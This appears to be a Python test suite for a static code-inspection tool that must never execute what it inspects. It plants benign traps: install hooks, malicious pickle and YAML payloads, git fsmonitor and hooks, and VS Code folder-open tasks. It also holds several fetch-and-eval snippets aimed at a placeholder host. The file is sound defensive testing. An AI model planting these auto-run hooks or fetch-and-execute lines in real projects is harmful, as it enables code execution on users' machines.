"""Nothing under inspection is executed, imported, written or connected to; what it does to a worker stays there."""

import io
import os
import resource
import shutil
import struct
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from inspection.rules.development import CAUGHT
from sekisho.inspection import worker
from sekisho.inspection.extract import extract
from sekisho.inspection.findings import Findings, Sink
from sekisho.inspection.inspect import inspect
from sekisho.inspection.judge import judge
from sekisho.inspection.link import link
from sekisho.inspection.pool import Task, pool
from sekisho.inspection.rules.chain import Verdict
from sekisho.inspection.virtual import VirtualFile
from sekisho.inspection.wire import BrokenAnswer, dump, load
from support.command import unchanged
from support.inspection import inspected, virtual

# Each would leave a trace if it were run, imported, unpickled or constructed.
TRAPS = {
    "setup.py": "open('{trace}', 'w').write('run')\n",
    "conftest.py": "import os; os.mkdir('{trace}')\n",
    "typer.py": "open('{trace}', 'w')\n",
    "yaml.py": "open('{trace}', 'w')\n",
    "sitecustomize.py": "open('{trace}', 'w')\n",
    "a.pth": "import os; os.mkdir('{trace}')\n",
    "data.yml": "!!python/object/apply:os.mkdir ['{trace}']\n",
    "data.pkl": "cos\nmkdir\n(V{trace}\ntR.",
    ".git/config": '[core]\n\tfsmonitor = touch {trace}\n[filter "a"]\n\tsmudge = touch {trace}\n',
    ".gitattributes": "* filter=a\n",
    ".git/hooks/post-checkout": "#!/bin/sh\ntouch {trace}\n",
    ".envrc": "touch {trace}\n",
    "package.json": '{"scripts": {"preinstall": "touch {trace}", "install": "touch {trace}"}}',
    ".vscode/tasks.json": '{"tasks": [{"command": "touch {trace}", "runOptions": {"runOn": "folderOpen"}}]}',
}


def trapped(folder: Path, trace: Path) -> Path:
    for name, text in TRAPS.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text.replace("{trace}", str(trace)))
        path.chmod(0o755)
    return folder


def test_nothing_of_a_trapped_folder_is_executed_imported_or_written(tmp_path: Path) -> None:
    trace, folder = tmp_path / "trace", trapped(tmp_path / "in", tmp_path / "trace")
    with unchanged(folder):
        found = inspect(folder, workers=2)
    assert found.verdict is not Verdict.NO_CHAIN_FOUND
    assert not trace.exists()


def test_started_inside_the_folder_it_imports_nothing_from_there(tmp_path: Path) -> None:
    trace, folder = tmp_path / "trace", trapped(tmp_path / "in", tmp_path / "trace")
    code = "from pathlib import Path; from sekisho.inspection.inspect import inspect; print(inspect(Path('.')).verdict)"
    done = subprocess.run([sys.executable, "-P", "-c", code], cwd=folder, capture_output=True, text=True, check=True)
    assert done.stdout.strip() in {"block", "review"}
    assert not trace.exists()


def test_this_process_starts_only_workers_and_opens_no_socket(tmp_path: Path) -> None:
    folder = trapped(tmp_path / "in", tmp_path / "trace")
    code = f"""
import os, sys
seen = set()
def watch(event, arguments):
    if event in ("subprocess.Popen", "os.posix_spawn"):  # Python 3.13 starts the one by the other
        seen.add(" ".join(map(os.fsdecode, arguments[1][1:])))
    elif event.startswith(("socket.", "os.exec", "os.system", "os.fork")):
        seen.add(event)
    elif event == "open" and {str(folder)!r} in str(arguments[0]) and "w" in str(arguments[1]):
        seen.add("wrote " + str(arguments[0]))
from pathlib import Path
from sekisho.inspection.inspect import inspect
from sekisho.inspection.judge import judge
from sekisho.inspection.link import link
sys.addaudithook(watch)
inspect(Path({str(folder)!r}))
print(sorted(seen))
"""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "['-P -m sekisho.inspection.worker']"


def confined(code: str) -> subprocess.CompletedProcess[str]:
    """Code in a process that has confined itself as a worker does."""
    program = f"import os, socket, subprocess, sys\nfrom sekisho.inspection.worker import confine\nconfine()\n{code}\n"
    return subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, timeout=60, check=False)


FORBIDDEN = {
    "read a file": "open('/etc/hostname').read()",
    "open a file by its descriptor": "os.open('/etc/hostname', os.O_RDONLY)",
    "open a socket": "socket.socket()",
    "start a process": "subprocess.run(['true'])",
    "ask the system": "os.system('true')",
    "import a module": "import wave",
    "run code": "exec('1')",
}


@pytest.mark.parametrize("code", FORBIDDEN.values(), ids=FORBIDDEN.keys())
def test_a_confined_worker_cannot(code: str) -> None:
    assert confined("print('before', flush=True)").stdout == "before\n"
    done = confined(f"{code}\nprint('got through', flush=True)")
    assert done.returncode != 0
    assert "got through" not in done.stdout


@pytest.mark.skipif(sys.platform != "linux", reason="macOS knows no limit of address space")
def test_a_confined_worker_cannot_have_all_memory() -> None:
    assert confined("bytearray(3_000_000_000)").returncode != 0


@pytest.mark.skipif(shutil.which("unshare") is None, reason="needs unshare for a network of its own")
def test_it_answers_without_any_network(tmp_path: Path) -> None:
    folder = trapped(tmp_path / "in", tmp_path / "trace")
    alone = ["unshare", "--user", "--map-root-user", "--net"]
    if subprocess.run([*alone, "true"], capture_output=True, check=False).returncode:
        pytest.skip("this machine lets nobody make a network of their own")
    code = f"""
from pathlib import Path
from sekisho.inspection.inspect import inspect
from sekisho.inspection.judge import judge
from sekisho.inspection.link import link
print(inspect(Path({str(folder)!r})).verdict)
"""
    done = subprocess.run([*alone, sys.executable, "-c", code], capture_output=True, text=True, check=False)
    assert done.stdout.strip() in {"block", "review"}


DEADLY = {  # kills or hangs a reader of ours, by a door left open for this test alone
    "a worker that dies": "import os; os._exit(9)",
    "a worker that says nonsense": "sys.stdout.buffer.write(b'\\x02\\0\\0\\0{}'); sys.stdout.buffer.flush(); input()",
    "a worker that hangs": "import time; time.sleep(100)",
    "a worker that claims too much": "sys.stdout.buffer.write(b'\\xff' * 4); sys.stdout.buffer.flush(); input()",
}


@pytest.mark.parametrize("code", DEADLY.values(), ids=DEADLY.keys())
def test_a_broken_worker_costs_one_file(code: str, monkeypatch: pytest.MonkeyPatch) -> None:
    real = subprocess.Popen
    started: list[list[str]] = []

    def broken_first(command: list[str], *, stdin: int, stdout: int, **_: int) -> "subprocess.Popen[bytes]":
        started.append(command)
        if len(started) == 1:
            command = [sys.executable, "-c", f"import sys\n{code}"]
        else:
            monkeypatch.setattr("sekisho.inspection.pool._PATIENCE", 60)
        return real(command, stdin=stdin, stdout=stdout, stderr=subprocess.DEVNULL, bufsize=0)

    monkeypatch.setattr("sekisho.inspection.pool.subprocess.Popen", broken_first)
    monkeypatch.setattr("sekisho.inspection.pool._PATIENCE", 3)
    files = [VirtualFile("a.py", b"print(1)\n"), VirtualFile("b.py", b"import os\n")]
    with pool(1) as readers:
        first, second = readers.read([Task(file) for file in files])
    assert first.language == "unread"
    assert first.gaps[0].file == "a.py"
    assert second.language == "python"


@pytest.mark.parametrize(("limit", "why"), [("_DEATHS", "too many readers died"), ("_ALTOGETHER", "ran out")])
def test_an_input_that_never_ends_is_left_alone(limit: str, why: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(f"sekisho.inspection.pool.{limit}", -1)
    with pool(1) as readers:
        (found,) = readers.read([Task(VirtualFile("a.py", b"x = 1\n"))])
    assert found.language == "unread"
    assert why in found.gaps[0].why


LANGUAGES = {  # each grammar and each kind of reader must work without opening anything
    "a.py": b"import requests\nexec(requests.get('https://a.invalid').text)\n",
    "b.py": b"import urllib2\nexec urllib2.urlopen('https://a.invalid').read()\n",
    "a.js": b"fetch('https://a.invalid').then(r => r.text()).then(t => eval(t));\n",
    "a.ts": b"const t: string = await (await fetch('https://a.invalid')).text(); eval(t);\n",
    "a.tsx": b"const t = await (await fetch('https://a.invalid')).text(); eval(t); const x = <a>b</a>;\n",
    "a.html": b"<script>fetch('https://a.invalid').then(r => r.text()).then(t => eval(t));</script>\n",
}


@pytest.mark.parametrize(("name", "data"), LANGUAGES.items(), ids=LANGUAGES)
def test_a_confined_worker_reads_every_language(name: str, data: bytes) -> None:
    with pool(1) as readers:
        (found,) = readers.read([Task(VirtualFile(name, data))])
    assert [flow.sink for flow in found.flows] == [Sink.CODE]
    assert found.gaps == ()


def test_a_confined_worker_reads_what_this_process_reads() -> None:
    """The rules are tested on findings of this process, which may open and import what it likes."""
    with pool(1) as readers:
        for rule, claim, sample in CAUGHT:
            files = virtual(sample.files)
            assert judge(files, (), link(files, readers)) == inspected(sample.files), f"{rule}: {claim}"


WRONG = {
    "a source that is wrong": b"x = (\nprint(1)\n",
    "a source with warnings": b"x = 'a' is 'b'\ny = '\\d'\n",
    "an unknown encoding": b"# coding: nothing\nx = 1\n",
    "a rare encoding": b"# coding: cp037\nx = 1\n",
    "too deep a source": b"x = " + b"-" * 100_000 + b"1\n",
    "parentheses without end": b"(" * 200_000,
}


@pytest.mark.parametrize("data", WRONG.values(), ids=WRONG.keys())
def test_a_confined_worker_survives(data: bytes) -> None:
    with pool(1) as readers:
        (found,) = readers.read([Task(VirtualFile("a.py", data))])
    assert found.language == "python"


def test_the_answer_is_the_same_with_one_worker_and_with_four(tmp_path: Path) -> None:
    folder = trapped(tmp_path / "in", tmp_path / "trace")
    for number in range(12):
        (folder / f"m{number}.py").write_text(
            f"import requests\nexec(requests.get('https://a.invalid/{number}').text)\n"
        )
    assert inspect(folder, workers=1) == inspect(folder, workers=4)


def test_findings_come_back_from_the_wire_as_they_were() -> None:
    source = b"import requests\ndef a(x):\n    exec(x)\n    return requests.get('https://a.invalid').text\na(a(1))\n"
    found = extract(VirtualFile("a.py", source), {})
    assert found.flows
    assert found.exports
    assert load(Findings, dump(found)) == found


@pytest.mark.parametrize(
    "raw", [b"", b"{}", b"[]", b"[1]", b'["python"]', b'["x",[],[],[],[],[],[],{}]', b"[" * 100_000]
)
def test_a_wrong_answer_is_no_answer(raw: bytes) -> None:
    with pytest.raises(BrokenAnswer):
        load(Findings, raw)


def test_frames_end_where_the_stream_ends() -> None:
    assert worker.read_frame(io.BytesIO(b"")) is None
    assert worker.read_frame(io.BytesIO(struct.pack("<I", 3) + b"abc")) == b"abc"
    assert worker.frame(b"abc") == struct.pack("<I", 3) + b"abc"


def test_no_thread_or_process_is_left(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("print(1)\n")
    before = threading.active_count()
    inspect(tmp_path)
    assert threading.active_count() == before
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime >= 0
    with pytest.raises(ChildProcessError):
        os.waitpid(-1, os.WNOHANG)
